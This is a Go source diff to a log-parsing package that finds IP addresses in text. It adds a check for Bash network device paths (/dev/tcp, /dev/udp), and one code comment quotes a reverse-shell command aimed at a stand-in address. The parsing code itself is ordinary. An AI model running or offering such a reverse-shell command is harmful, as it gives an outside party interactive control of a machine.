@@ -1,6 +1,9 @@
 package iptext
 
-import "bytes"
+import (
+	"bytes"
+	"slices"
+)
 
 // maxLogLine is how much of a line before an address is read to recognize the program that wrote it.
 const maxLogLine = 480
@@ -67,6 +70,14 @@ func isObjectName(b []byte, hyphen int) bool {
 	word := wordBefore(b, hyphen)
 	var buffer [maxWord]byte
 	return len(word) < maxWord && objectWords[string(appendLower(buffer[:0], word))]
+}
+
+// devices are what Bash opens as a connection: "bash -i >& /dev/tcp/198.51.100.66/443".
+var devices = [][]byte{[]byte("/dev/tcp"), []byte("/dev/udp")}
+
+// isDevice reports whether a text up to a slash ends with one of devices.
+func isDevice(b []byte, slash int) bool {
+	return slices.ContainsFunc(devices, func(device []byte) bool { return bytes.HasSuffix(b[:slash], device) })
 }
 
 // hierarchies are how the words end by which the proxy Squid says where it fetched a response: HIER_DIRECT/203.0.113.10.
